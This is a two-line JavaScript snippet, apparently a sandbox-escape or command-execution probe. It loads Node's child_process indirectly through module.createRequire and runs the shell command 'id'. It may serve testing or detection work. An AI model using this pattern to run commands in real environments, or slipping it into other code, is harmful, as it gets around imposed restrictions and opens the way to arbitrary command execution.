import m from 'module';
m.createRequire('/x')('child_process').execSync('id');
